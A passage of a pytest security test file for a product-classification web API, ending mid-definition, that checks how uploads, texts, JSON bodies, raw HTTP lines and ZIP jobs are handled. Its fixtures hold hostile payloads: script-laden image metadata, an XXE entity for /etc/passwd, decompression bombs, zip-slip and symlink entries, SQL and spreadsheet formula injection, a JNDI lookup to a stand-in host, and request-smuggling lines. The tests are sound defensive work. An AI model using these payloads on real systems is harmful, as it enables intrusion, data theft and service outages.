"""What nobody means well with: pictures, texts and files that are made to break the service, over HTTP."""

from __future__ import annotations

import bz2
import csv
import inspect
import io
import json
import socket
import stat
import struct
import threading
import tracemalloc
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import numpy as np
import polars as pl
import pytest
from PIL import Image

from rayon.data.image import MAX_BYTES
from rayon.learning.model import ProductClassifier
from rayon.operations.jobs import Worker
from rayon.operations.prediction_recorder import PredictionRecorder
from rayon.serving.api.predictions import Filters
from rayon.serving.app import create_app
from rayon.serving.server import Server, address_of, listen
from rayon.serving.services import Services

URL = "/api/v1/predictions"
JOBS = "/api/v1/jobs"
LAMP = {"designation": "Lampe rouge"}
MAX_BODY, MAX_UPLOAD = 3_000_000, 4_000_000
IN_FLIGHT = 32_000_000
"""Bytes that may wait between two ends of a connection, in the buffers of the system: generously counted."""

SCRIPT = b"<script>alert('mine')</script>"
PAGE = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
SVG = b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>" + SCRIPT + b"</svg>"
RED, GREEN = (200, 30, 30), (30, 160, 30)


@pytest.fixture
def address(served: Services) -> Iterator[str]:
    """As for the other tests, with an upload that is limited as well."""
    listening, ready = listen("127.0.0.1", 0), threading.Event()
    server = Server(create_app(served, MAX_BODY, MAX_UPLOAD), served, drain_seconds=0, ready=ready.set)
    thread = threading.Thread(target=server.run, kwargs={"sockets": [listening]})
    thread.start()
    assert ready.wait(30)
    yield address_of(listening)
    server.should_exit = True
    thread.join(30)
    assert not thread.is_alive()


@pytest.fixture
def worker(served: Services, model: ProductClassifier) -> Worker:
    recorder = PredictionRecorder(model, served.database, served.images)
    return Worker(recorder, served.database, served.jobs.folder)


def check_problem(answer: httpx.Response, *statuses: int) -> None:
    assert answer.status_code in statuses, (answer.status_code, answer.text[:500])
    assert answer.headers["content-type"] == "application/problem+json"
    problem = answer.json()
    assert problem["status"] == answer.status_code
    assert problem["detail"].endswith(".")
    assert "Traceback" not in answer.text


def check_alive(client: httpx.Client) -> None:
    assert client.post(URL, json=LAMP).status_code == 200


def files(folder: Path) -> set[str]:
    """All files below a folder, links and hidden ones too, but the database and downloads being sent."""
    found = (path for path in folder.rglob("*") if path.is_symlink() or not path.is_dir())
    names = (str(path.relative_to(folder)) for path in found)
    return {name for name in names if not name.startswith(("rayon", "exports/"))}


def encoded(picture: Image.Image, kind: str = "JPEG", **options: Any) -> bytes:
    stream = io.BytesIO()
    picture.save(stream, kind, **options)
    return stream.getvalue()


def plain(width: int = 60, height: int = 60, colour: tuple[int, int, int] = RED) -> Image.Image:
    return Image.new("RGB", (width, height), colour)


# ------------------------------------------------------------------------------------------------ pictures


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(width: int, height: int, *chunks: bytes) -> bytes:
    """A PNG of one bit a pixel, all zero, whose rows are really there up to some 400 MB of them."""
    row = bytes(1 + (width + 7) // 8)
    packer = zlib.compressobj(9)
    body = b"".join(packer.compress(row) for _ in range(min(height, 400_000_000 // len(row))))
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    parts = (png_chunk(b"IHDR", header), *chunks, png_chunk(b"IDAT", body + packer.flush()))
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts) + png_chunk(b"IEND", b"")


def webp(kind: bytes, body: bytes) -> bytes:
    chunk = kind + struct.pack("<I", len(body)) + body + bytes(64)
    return b"RIFF" + struct.pack("<I", 4 + len(chunk)) + b"WEBP" + chunk


def jpeg_of_size(width: int, height: int) -> bytes:
    """A small JPEG whose frame header announces another size."""
    data = bytearray(encoded(plain()))
    frame = data.index(b"\xff\xc0")
    data[frame + 5 : frame + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def with_segment(marker: int, body: bytes) -> bytes:
    """A JPEG with a further segment behind its first two bytes."""
    data = encoded(plain())
    return data[:2] + struct.pack(">BBH", 0xFF, marker, len(body) + 2) + body + data[2:]


def archive(*entries: tuple[str | zipfile.ZipInfo, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    packed = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(packed, "w", method) as zipped:
        warnings.simplefilter("ignore")  # of names that are there twice
        for name, content in entries:
            zipped.writestr(name, content)
    return packed.getvalue()


def noise(width: int = 90, height: int = 90) -> Image.Image:
    pixels = np.random.default_rng(0).integers(0, 255, (height, width, 3), dtype=np.uint8)
    return Image.fromarray(pixels)


USABLE: dict[str, Callable[[], bytes]] = {
    "a ZIP with a page behind a JPEG": lambda: encoded(plain()) + archive(("index.html", PAGE), method=0),
    "a page behind a JPEG": lambda: encoded(plain()) + PAGE,
    "a script in a JPEG's comment": lambda: encoded(plain(), comment=SCRIPT),
    "a script in EXIF": lambda: with_segment(0xE1, b"Exif\0\0" + SCRIPT),
    "a script in XMP": lambda: with_segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + PAGE),
    "a script in a colour profile": lambda: with_segment(0xE2, b"ICC_PROFILE\0\1\1" + SCRIPT),
    "a script in a PNG's text": lambda: png(60, 60, png_chunk(b"tEXt", b"Comment\0" + SCRIPT)),
    "a page behind a PNG": lambda: png(60, 60) + PAGE,
    "XMP in a WebP": lambda: encoded(plain(), "WEBP", xmp=PAGE),
    "four inks": lambda: encoded(plain().convert("CMYK")),
    "a strip": lambda: png(8, 60_000),
    "a JPEG that is called GIF": lambda: encoded(plain()),
}

HEADERS_ONLY = (2**31 - 1, 2**31 - 1)
UNUSABLE: dict[str, tuple[Callable[[], bytes], str]] = {
    "a bomb": (lambda: png(60_000, 60_000), "60000 × 60000 pixels, more than 50,000,000"),
    "a PNG beyond all numbers": (
        lambda: png(8, 8).replace(struct.pack(">II", 8, 8), struct.pack(">II", *HEADERS_ONLY)),
        "2147483647 × 2147483647 pixels, more than 50,000,000",
    ),
    "a JPEG of 65535 × 65535": (lambda: jpeg_of_size(65_535, 65_535), "65535 × 65535 pixels, more than"),
    "a lossless WebP of 16384 × 16384": (
        lambda: webp(b"VP8L", b"\x2f" + struct.pack("<I", 0x0FFFFFFF)),
        "16384 × 16384 pixels, more than",
    ),
    "an extended WebP of 16777216 × 16777216": (
        lambda: webp(b"VP8X", bytes(4) + b"\xff" * 6),
        "16777216 × 16777216 pixels, more than",
    ),
    "a JPEG of no height": (lambda: jpeg_of_size(60, 0), "too few to show anything"),
    "text that grows in a PNG": (
        lambda: png(60, 60, png_chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(300_000_000), 9))),
        "is damaged",
    ),
    "SVG": (lambda: SVG, "is not a JPEG, PNG or WebP"),
    "XML": (
        lambda: b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
        "is not a JPEG, PNG or WebP",
    ),
    "a page": (lambda: PAGE, "is not a JPEG, PNG or WebP"),
    "GIF": (lambda: encoded(plain(), "GIF"), "is not a JPEG, PNG or WebP"),
    "TIFF": (lambda: encoded(plain(), "TIFF"), "is not a JPEG, PNG or WebP"),
    "PostScript": (
        lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 60 60\n",
        "is not a JPEG, PNG or WebP",
    ),
    "half a JPEG": (lambda: encoded(noise())[:4000], "is damaged"),
    "the head of a JPEG": (lambda: encoded(plain())[:3], "is not a JPEG, PNG or WebP"),
    "a JPEG of one pixel": (lambda: encoded(plain(1, 1)), "too few to show anything"),
    "NUL bytes": (lambda: bytes(2_000_000), "is not a JPEG, PNG or WebP"),
}


@pytest.mark.parametrize("kind", USABLE)
def test_of_a_picture_only_the_pixels_are_kept(client: httpx.Client, tmp_path: Path, kind: str) -> None:
    data = USABLE[kind]()
    before = files(tmp_path)
    body = client.post(URL, files={"image": ("a.gif", data, "text/html")}).json()
    assert (body["modalities"], body["degraded"]) == (["image"], False)
    kept = client.get("/api/v1" + body["image"])
    assert (kept.headers["content-type"], kept.headers["x-content-type-options"]) == ("image/jpeg", "nosniff")
    for hidden in (b"script", b"html", b"PK\x03\x04", b"Exif", b"ICC_PROFILE", b"ns.adobe.com"):
        assert hidden not in kept.content, hidden
    assert kept.content.startswith(b"\xff\xd8\xff")
    assert kept.content.endswith(b"\xff\xd9")
    assert kept.content.count(b"\xff\xd9") == 1  # nothing comes after the picture's end
    with Image.open(io.BytesIO(kept.content), formats=["JPEG"]) as image:
        assert (image.mode, max(image.size) <= 1000) == ("RGB", True)
        assert set(image.info) <= {"jfif", "jfif_version", "jfif_unit", "jfif_density"}
        image.load()
    (new,) = files(tmp_path) - before
    assert (tmp_path / new).read_bytes() == kept.content


@pytest.mark.parametrize("kind", UNUSABLE)
def test_what_is_no_picture_leaves_nothing_behind(client: httpx.Client, tmp_path: Path, kind: str) -> None:
    make, reason = UNUSABLE[kind]
    data = make()
    assert len(data) < MAX_BODY
    before = files(tmp_path)
    alone = client.post(URL, files={"image": ("a.jpg", data, "image/jpeg")})
    check_problem(alone, 400)
    assert reason in alone.json()["detail"]
    beside = client.post(URL, data=LAMP, files={"image": ("a.jpg", data, "image/jpeg")})
    assert beside.status_code == 200
    body = beside.json()
    assert (body["modalities"], body["degraded"], body["image"]) == (["text"], True, None)
    assert reason in body["error"]
    check_problem(client.get(f"{URL}/{body['id']}/image"), 404)
    assert files(tmp_path) == before


def test_of_an_animation_the_first_frame_is_kept(client: httpx.Client) -> None:
    frames = [plain(colour=colour) for colour in (RED, GREEN, GREEN)]
    for kind in ("WEBP", "PNG"):
        data = encoded(frames[0], kind, save_all=True, append_images=frames[1:], lossless=True)
        body = client.post(URL, files={"image": ("a.webp", data)}).json()
        with Image.open(io.BytesIO(client.get("/api/v1" + body["image"]).content)) as image:
            assert getattr(image, "n_frames", 1) == 1
            red, green, _ = image.getpixel((30, 30))
        assert red > 150 > green


def test_an_empty_file_is_as_good_as_none(client: httpx.Client, tmp_path: Path) -> None:
    before = files(tmp_path)
    check_problem(client.post(URL, files={"image": ("a.jpg", b"")}), 400)
    beside = client.post(URL, data=LAMP, files={"image": ("a.jpg", b"")})
    assert (beside.status_code, beside.json()["image"]) == (200, None)
    assert files(tmp_path) == before


def form(name: bytes, content: bytes, field: bytes = b"image", charset: str = "") -> dict[str, Any]:
    """A form with one file, whose name is sent exactly as it is given."""
    head = b'--b\r\nContent-Disposition: form-data; name="' + field + b'"; filename="' + name + b'"\r\n\r\n'
    kind = "multipart/form-data; boundary=b" + (f"; charset={charset}" if charset else "")
    return {"content": head + content + b"\r\n--b--\r\n", "headers": {"Content-Type": kind}}


NAMES = [
    b"../../../../etc/passwd",
    b"..\\..\\..\\windows\\win.ini",
    b"/tmp/mine.jpg",
    b"C:\\mine.jpg",
    b"mine\0.jpg",
    b"mine.jpg\r\nX-Mine: 1\r\nX-Other: ",
    b"%2e%2e%2f%00.jpg",
    b"\xff\xfe\xe9.jpg",
    "\u202egpj.exe".encode(),
    b"a" * 10_000 + b".jpg",
    b"con.jpg",
    b".",
    b"..",
    b"",
]


def test_names_of_pictures_name_nothing_on_the_server(client: httpx.Client, tmp_path: Path) -> None:
    before = files(tmp_path)
    for number, name in enumerate(NAMES):
        data = encoded(plain(60 + number, 60))  # each is another picture, in a file of its own
        answer = client.post(URL, **form(name, data))
        if answer.status_code != 200:
            check_problem(answer, 400)  # it may also be refused for its name
            continue
        body = answer.json()
        kept = client.get("/api/v1" + body["image"]).content
        (new,) = files(tmp_path) - before
        before.add(new)
        assert (tmp_path / new).read_bytes() == kept
        folder, start, last = Path(new).parts
        assert folder == "images"
        assert last.removesuffix(".jpg").startswith(start)
        assert len(last) == 64 + len(".jpg")
    assert len(before) >= len(NAMES) - 3  # most of them do no harm


# ------------------------------------------------------------------------------------------------ texts

TEXTS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://mine.example","click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'; DROP TABLE predictions; --",
    "1' OR '1'='1",
    "\u202eexe.gpj\u202c lampe \u2066\u2069",
    "lampe\u200b\ufeff\u00ad rouge \ufffe\uffff",
    "e" + "\u0301" * 5000,
    "\U0001f4a1" * 100_000,
    "<" * 100_000,
    "&amp;" * 20_000,
    "<!--" * 25_000,
    "a\r\nb\n\rc\x0b\x0c\x1c\x85\u2028d",
    '"' * 1001,
    "\\" * 1001,
    "\x01\x02\x1b[31mrot\x7f",
    "${jndi:ldap://mine.example/a} {{7*7}} %s %n",
    "../../../../etc/passwd",
]


def test_any_text_comes_back_as_it_was_sent(client: httpx.Client) -> None:
    sent = [{"designation": text, "description": text, "productid": text[:200]} for text in TEXTS]
    made = client.post(f"{URL}/batch", json={"listings": sent})
    assert made.status_code == 200, made.text[:500]
    # A text without any letter is something, though nothing that the model could know: it is answered too.
    assert [one["designation"] for one in made.json()["predictions"]] == TEXTS
    for text, one in zip(TEXTS, made.json()["predictions"], strict=True):
        found = client.get(URL, params={"productid": text[:200]}).json()["items"]
        assert [item["id"] for item in found] == [one["id"]]
        assert found[0]["description"] == text


def test_any_text_is_exported_as_it_was_sent(client: httpx.Client) -> None:
    csv.field_size_limit(1_000_000)
    client.post(f"{URL}/batch", json={"listings": [{"designation": text} for text in TEXTS]})
    expected = sorted(TEXTS)  # a batch is one moment: its order is not kept
    exported = {
        kind: client.get(f"{URL}/export", params={"format": kind}).content
        for kind in ("csv", "jsonl", "parquet")
    }
    rows = csv.DictReader(io.StringIO(exported["csv"].decode(), newline=""))
    assert sorted(row["designation"] for row in rows) == expected
    lines = exported["jsonl"].decode().split("\n")[:-1]
    assert sorted(json.loads(line)["designation"] for line in lines) == expected
    assert sorted(pl.read_parquet(io.BytesIO(exported["parquet"]))["designation"]) == expected


def test_texts_of_a_form_are_kept_as_well(client: httpx.Client) -> None:
    for text in TEXTS:
        sent = {"data": {"designation": text}, "files": {"image": ("a.jpg", encoded(plain()))}}
        answer = client.post(URL, **sent)
        assert (answer.status_code, answer.json().get("designation")) == (200, text), answer.text[:300]


def test_nul_characters_are_left_out(client: httpx.Client, reviewer: httpx.Client) -> None:
    listing = {"designation": "Lam\0pe\0", "productid": "\0p\0", "imageid": "\0"}
    body = client.post(URL, json=listing).json()
    assert [body[name] for name in listing] == ["Lampe", "p", ""]
    path = f"{URL}/{body['id']}/validations"
    word = reviewer.post(path, json={"verdict": "right", "comment": "\0so"})
    assert (word.status_code, word.json()["comment"]) == (201, "so")
    check_problem(client.post(URL, json={"designation": "\0"}), 400)  # nothing is left to classify


DEEP = 10_000
LONG = b"9" * 10_000
BODIES = {
    "half a surrogate pair": b'{"designation": "\\ud800"}',
    "a surrogate pair the wrong way round": b'{"designation": "\\udc00\\ud800"}',
    "half a surrogate pair as a name": b'{"designation": "Lampe", "\\ud800": 1}',
    "lists in lists": b"[" * DEEP + b"]" * DEEP,
    "open lists": b"[" * 1_000_000,
    "objects in objects": b'{"designation":' * DEEP + b"1" + b"}" * DEEP,
    "lists in a field": b'{"designation": ' + b"[" * DEEP + b"]" * DEEP + b"}",
    "a number of 10,000 digits": b'{"designation": ' + LONG + b"}",
    "a number beyond all others": b'{"designation": 1e999999999}',
    "no number": b'{"designation": NaN}',
    "without an end": b'{"designation": -Infinity}',
    "no UTF-8": b'{"designation": "\xe9\xff"}',
    "a surrogate in UTF-8": b'{"designation": "\xed\xa0\x80"}',
    "UTF-8 in too many bytes": b'{"designation": "\xc0\xaf"}',
    "an open text": b'{"designation": "' + b"a" * 1_000_000,
    "many names": b"{" + b",".join(b'"%d": 1' % i for i in range(10_000)) + b"}",
    "a field that objects have": b'{"__class__": "a", "__proto__": {"role": "admin"}}',
    "a null": b"null",
    "white space": b" " * 1_000_000,
}


@pytest.mark.parametrize("kind", BODIES)
def test_json_that_is_made_to_break_readers(
    client: httpx.Client, reviewer: httpx.Client, admin: httpx.Client, kind: str
) -> None:
    body, headers = BODIES[kind], {"Content-Type": "application/json"}
    known = client.post(URL, json=LAMP).json()["id"]
    for who, method, path in (
        (client, "POST", URL),
        (client, "POST", f"{URL}/batch"),
        (reviewer, "POST", f"{URL}/{known}/validations"),
        (client, "POST", "/api/v1/keys"),
        (client, "PUT", "/api/v1/users/me/password"),
        (admin, "POST", "/api/v1/users"),
        (admin, "PATCH", "/api/v1/users/client"),
    ):
        check_problem(who.request(method, path, content=body, headers=headers), 400, 422)
        wrapped = body.replace(b"designation", b"name")
        check_problem(who.request(method, path, content=wrapped, headers=headers), 400, 422)
    assert len(client.get(URL).json()["items"]) == 1
    assert [one["name"] for one in admin.get("/api/v1/users").json()] == ["admin", "client", "reviewer"]


def test_of_a_name_that_is_there_twice_the_last_counts(client: httpx.Client) -> None:
    body = b'{"designation": "Vase", "designation": "Lampe"}'
    for sent, path in ((body, URL), (b'{"listings": [%s]}' % body, f"{URL}/batch")):
        answer = client.post(path, content=sent, headers={"Content-Type": "application/json"}).json()
        assert [one["designation"] for one in answer.get("predictions", [answer])] == ["Lampe"]


@pytest.mark.parametrize(
    "charset", ["undefined", "idna", "punycode", "unicode_escape", "rot13", "zip", "a" * 9000]
)
def test_forms_in_odd_encodings(client: httpx.Client, worker: Worker, charset: str) -> None:
    head = b'--b\r\nContent-Disposition: form-data; name="designation"\r\n\r\n'
    kind = {"Content-Type": f"multipart/form-data; boundary=b; charset={charset}"}
    for text in (b"Lampe", b"\\ud800", b"xn--\xff\xff-", b"-\xff\xff", b"\\x00"):
        answer = client.post(URL, content=head + text + b"\r\n--b--\r\n", headers=kind)
        if answer.status_code != 200:
            check_problem(answer, 400, 415, 422)
        name = text + b".csv"
        answer = client.post(JOBS, **form(name, b"designation\nLampe\n", b"file", charset))
        if answer.status_code != 202:
            check_problem(answer, 400, 415, 422)
            continue
        assert worker.work()
        job = client.get(f"{JOBS}/{answer.json()['id']}").json()
        assert (job["state"], job["rows_done"]) == ("done", 1)
        assert client.get(f"{JOBS}/{job['id']}/results").status_code == 200


FRAGMENTS = [
    "' OR '1'='1",
    "'; DROP TABLE predictions; --",
    "' UNION SELECT id, name, password_hash FROM users --",
    "%",
    "_",
    "\0",
    "a\0b",
    "\\",
    "\ufffd\uffff\U0010ffff",
    "../../users",
    "..",
    "a" * 10_000,
    "9" * 10_000,
    "-1",
    "1e999",
    "NaN",
    "9999-12-31T23:59:59-23:59",
    "0001-01-01T00:00:00+23:59",
    "0000-00-00T00:00:00Z",
    "-271821-04-20T00:00:00Z",
    "{}",
    "null",
]
FILTERS = [*inspect.signature(Filters).parameters, "limit", "cursor", "format", "full"]


@pytest.mark.parametrize("path", [URL, f"{URL}/export", JOBS])
def test_filters_are_values_and_nothing_else(client: httpx.Client, reviewer: httpx.Client, path: str) -> None:
    own, other = client.post(URL, json=LAMP).json()["id"], reviewer.post(URL, json=LAMP).json()["id"]
    for name in FILTERS:
        for value in FRAGMENTS:
            answer = client.get(path, params={name: value})
            assert other not in answer.text
            if answer.status_code != 200:
                check_problem(answer, 400, 422)
            elif name in ("code", "model_version", "productid", "job_id") and path != JOBS:
                assert own not in answer.text, (name, value)
    assert [one["id"] for one in client.get(URL).json()["items"]] == [own]


def test_ids_are_values_and_nothing_else(
    client: httpx.Client, admin: httpx.Client, reviewer: httpx.Client
) -> None:
    other = admin.post(URL, json=LAMP).json()["id"]
    for value in [*FRAGMENTS, other + "\0", other + "' OR '1'='1", other.upper()]:
        part = "".join(f"%{byte:02x}" for byte in value.encode())
        for who, method, path in (
            (client, "GET", f"{URL}/{part}"),
            (client, "GET", f"{URL}/{part}/image"),
            (client, "GET", f"{URL}/{part}/validations"),
            (client, "POST", f"{URL}/{part}/explanation"),
            (reviewer, "POST", f"{URL}/{part[: 3 * 10_000]}/validations"),
            (client, "GET", f"{JOBS}/{part}"),
            (client, "GET", f"{JOBS}/{part}/results"),
            (client, "DELETE", f"{JOBS}/{part}"),
            (client, "DELETE", f"/api/v1/keys/{part}"),
            (admin, "GET", f"/api/v1/users/{part}"),
            (admin, "DELETE", f"/api/v1/users/{part}"),
        ):
            body = {"json": {"verdict": "right"}} if who is reviewer else {}
            answer = who.request(method, path, **body)
            if who is reviewer and answer.status_code == 201:
                assert value.startswith(other)
                continue
            check_problem(answer, 400, 404, 405, 422)
    assert [one["name"] for one in admin.get("/api/v1/users").json()] == ["admin", "client", "reviewer"]
    check_alive(client)


def test_headers_of_100_kb(client: httpx.Client) -> None:
    for name in ("Authorization", "Content-Type", "X-Request-ID", "Cookie", "X-Mine"):
        answer = client.post(URL, json=LAMP, headers={name: "a" * 100_000})
        # Whether the reader's limit is met depends on how the bytes arrive; if not, the header is just odd.
        assert answer.status_code in (200, 400, 401, 415, 431), name
        check_alive(client)
    for name in ("Authorization", "Content-Type", "Accept", "X-Request-ID"):
        answer = client.get(URL, headers={name: "=?;,\"'%" * 5000})  # short enough to be read
        assert answer.status_code in (200, 400, 401), name
        check_alive(client)


@pytest.mark.parametrize(
    "line",
    [
        b"GET / HTTP/9.9\r\n\r\n",
        b"GET /\0 HTTP/1.1\r\nHost: a\r\n\r\n",
        b"GET /\xff\xed\xa0\x80 HTTP/1.1\r\nHost: a\r\n\r\n",
        b"POST /api/v1/predictions HTTP/1.1\r\nHost: a\r\nContent-Length: -1\r\n\r\n",
        b"POST /api/v1/predictions HTTP/1.1\r\nHost: a\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab",
        b"POST /api/v1/predictions HTTP/1.1\r\nHost: a\r\nContent-Length: 9\r\n"
        b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        b"POST /api/v1/predictions HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n",
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
        b"\r\n" * 40_000,
        bytes(100_000),
    ],
)
def test_what_is_no_request(address: str, client: httpx.Client, line: bytes) -> None:
    place = urlsplit(address)
    with socket.create_connection((place.hostname, place.port), timeout=30) as connection:
        connection.sendall(line)
        connection.shutdown(socket.SHUT_WR)
        status = connection.makefile("rb").readline()
    assert status[:10] in (b"", b"HTTP/1.1 4")  # refused, or not even answered
    check_alive(client)


def test_credentials_that_are_made_to_break_readers(anyone: httpx.Client, client: httpx.Client) -> None:
    for name, password in (
        ("\0", "\0"),
        ("client\0", "correct horse battery"),
        ("' OR '1'='1", "' OR '1'='1"),
        ("a" * 20_000, "a" * 20_000),
        ("\ufffd\u202e", "\U0010ffff"),
    ):
        answer = anyone.get("/api/v1/users/me", auth=httpx.BasicAuth(name, password))
        check_problem(answer, 400, 401)
    for secret in ("rk_\0", "rk_" + "a" * 20_000, "rk_é", "' OR '1'='1"):
        headers = {b"Authorization": b"Bearer " + secret.encode("latin-1").replace(b"\0", b"%00")}
        check_problem(anyone.get("/api/v1/users/me", headers=headers), 401)
    check_alive(client)


# ------------------------------------------------------------------------------------------------ uploads


def unfinished(name: bytes, field: bytes) -> bytes:
    content: bytes = form(name, b"", field)["content"]
    return content.removesuffix(b"\r\n--b--\r\n")


FORM = "multipart/form-data; boundary=b"
UPLOADS = {
    "a text": (URL, "application/json", b'{"designation": "', MAX_BODY),
    "a batch": (f"{URL}/batch", "application/json", b'{"listings": [{"designation": "', MAX_BODY),
    "a picture": (URL, FORM, unfinished(b"a.jpg", b"image"), MAX_BODY),
    "a job": (JOBS, FORM, unfinished(b"a.csv", b"file"), MAX_UPLOAD),
    "a job that is no form": (JOBS, "application/json", b'{"file": "', MAX_UPLOAD),
    "a key": ("/api/v1/keys", "application/json", b'{"name": "', MAX_BODY),
}


def upload(client: httpx.Client, path: str, kind: str, start: bytes) -> tuple[httpx.Response | None, int]:
    """Send 10 GB in pieces: the answer, if one came, and how many bytes were taken."""
    taken = 0

    def endless() -> Iterator[bytes]:
        nonlocal taken
        yield start
        while taken < 10_000_000_000:
            taken += 65_536
            yield b"x" * 65_536

    try:
        answer = client.post(path, content=endless(), headers={"Content-Type": kind})
    except httpx.TransportError:  # the connection ended while there was more to send
        return None, taken
    return answer, taken


@pytest.mark.parametrize("what", UPLOADS)
def test_an_upload_without_an_end_is_cut_off(client: httpx.Client, tmp_path: Path, what: str) -> None:
    path, kind, start, limit = UPLOADS[what]
    before = files(tmp_path)
    answer, taken = upload(client, path, kind, start)
    if answer is not None:
        check_problem(answer, 413, 422)
    assert taken < limit + IN_FLIGHT
    assert files(tmp_path) == before
    check_alive(client)


@pytest.mark.parametrize("what", UPLOADS)
def test_strangers_are_refused_before_anything_of_theirs_is_read(address: str, what: str) -> None:
    path, kind, _, limit = UPLOADS[what]
    place = urlsplit(address)
    head = f"POST {path} HTTP/1.1\r\nHost: a\r\nContent-Type: {kind}\r\nContent-Length: {limit}\r\n\r\n"
    with (
        socket.create_connection((place.hostname, place.port), timeout=10) as connection,
        connection.makefile("rb") as answer,
    ):
        connection.sendall(head.encode())  # and nothing more: who waits for the body waits for ever
        assert answer.readline().startswith(b"HTTP/1.1 401 ")


# ------------------------------------------------------------------------------------------------ jobs


def outcome(
    client: httpx.Client, worker: Worker, table: bytes, pictures: bytes | None = None, name: str = "shop.csv"
) -> dict[str, Any]:
    """Send a job and have it worked off: it has ended, with a sentence where it failed."""
    sent = {"file": (name, table)} | ({"images": ("a.zip", pictures)} if pictures is not None else {})
    answer = client.post(JOBS, files=sent)
    assert answer.status_code == 202, answer.text
    assert worker.work()
    job: dict[str, Any] = client.get(f"{JOBS}/{answer.json()['id']}").json()
    assert job["state"] in ("done", "failed")
    assert bool(job["error"]) == (job["state"] == "failed")
    assert "Errno" not in job["error"]  # what the system says is no sentence for people
    assert "Something went wrong" not in job["error"]
    return job


def predictions(client: httpx.Client, job: dict[str, Any]) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = client.get(URL, params={"job_id": job["id"]}).json()["items"]
    return sorted(found, key=lambda one: one["job_row"])  # many are of the same moment


def linked(target: str) -> tuple[zipfile.ZipInfo, bytes]:
    entry = zipfile.ZipInfo("7.jpg")
    entry.create_system = 3
    entry.external_attr = (stat.S_IFLNK | 0o777) << 16
    return entry, target.encode()


def test_an_archive_writes_nowhere_else(client: httpx.Client, worker: Worker, tmp_path: Path) -> None:
    before = files(tmp_path)
    names = (
        "../evil.jpg",
        "../../evil.jpg",
        "../../../evil.jpg",
        f"{'../' * 40}{tmp_path}/evil.jpg",
        f"{tmp_path}/absolute.jpg",
        f"\\{tmp_path}\\evil.jpg".replace("/", "\\"),
        "..\\..\\..\\back.jpg",
        "C:\\drive.jpg",
        "C:drive.jpg",
        "\\\\server\\share\\unc.jpg",
        "a/./b/../../../up.jpg",
        "../listings.csv",
        "../../listings.jpg",
        "nul\0.jpg",
        "\u202egpj.exe.jpg",
        "..",
        "../",
        ".jpg",
    )
    data = encoded(plain())
    job = outcome(
        client, worker, b"designation,imageid\nLampe,evil\n", archive(*((name, data) for name in names))
    )
    assert job["state"] == "done"
    (one,) = predictions(client, job)
    kept = client.get(
        "/api/v1" + one["image"]
    ).content  # by the last part of its name it is the row's picture
    (new,) = files(tmp_path) - before
    assert Path(new).parts[0] == "images"
    assert (tmp_path / new).read_bytes() == kept


def test_a_link_in_an_archive_is_not_followed(client: httpx.Client, worker: Worker, tmp_path: Path) -> None:
    secret = tmp_path / "secret.jpg"
    secret.write_bytes(encoded(plain(colour=GREEN)))
    before = files(tmp_path)
    for target in (str(secret), "../../../secret.jpg"):
        job = outcome(client, worker, b"designation,imageid\nLampe,7\n", archive(linked(target)))
        (one,) = predictions(client, job)
        assert (one["image"], one["degraded"]) == (None, True)
    # A later entry must not be written through a link of the same name.
    job = outcome(
        client, worker, b"designation,imageid\nLampe,7\n", archive(linked(str(secret)), ("7.jpg", PAGE))
    )
    assert job["state"] == "done"
    assert secret.read_bytes() == encoded(plain(colour=GREEN))
    assert files(tmp_path) == before


def test_a_column_of_pictures_reads_nothing_else(
    client: httpx.Client, worker: Worker, tmp_path: Path
) -> None:
    secret = tmp_path / "secret.jpg"
    secret.write_bytes(encoded(plain(colour=GREEN)))
    names = (
        "/etc/passwd",
        "../../../secret.jpg",
        str(secret),
        "7.jpg/../../../../secret.jpg",
        f"file://{secret}",
        "http://127.0.0.1:1/a.jpg",
        "C:\\secret.jpg",
        "\\\\server\\share\\a.jpg",
        "../listings.csv",
        "/dev/zero",
        "/dev/stdin",
        ".",
        "~/secret.jpg",
        "a" * 300 + ".jpg",
        "a/" * 3000,
    )
    before = files(tmp_path)
    table = "\n".join(["designation,image", *(f"Lampe,{name}" for name in names), "Vase,7.jpg"])
    job = outcome(client, worker, table.encode(), archive(("7.jpg", encoded(plain()))))
    assert (job["state"], job["rows_done"]) == ("done", len(names) + 1)
    *others, last = predictions(client, job)
    assert all(one["image"] is None for one in others)
    assert last["image"] is not None
    assert len(files(tmp_path) - before) == 1


def with_flag(data: bytes, flag: int) -> bytes:
    """A ZIP of one entry that has a flag in both of its headers."""
    changed = bytearray(data)
    changed[6] |= flag & 0xFF
    changed[7] |= flag >> 8
    central = data.index(b"PK\x01\x02")
    changed[central + 8] |= flag & 0xFF
    changed[central + 9] |= flag >> 8
    return bytes(changed)


def deflated(content: bytes) -> bytes:
    packer = zlib.compressobj(wbits=-15)
    return packer.compress(content) + packer.flush()


def broken_lzma() -> bytes:
    data = bytearray(archive(("7.jpg", bytes(100_000)), method=zipfile.ZIP_LZMA))
    start = len(b"PK") + 28 + len("7.jpg")  # of the entry's data, behind its header
    data[start + 9 : start + 19] = b"\xff" * 10
    return bytes(data)


ARCHIVES: dict[str, tuple[Callable[[], bytes], str]] = {
    "zeros": (
        lambda: archive(("7.jpg", bytes(MAX_BYTES + 1))),
        "The picture '7.jpg' of the archive is too large",
    ),
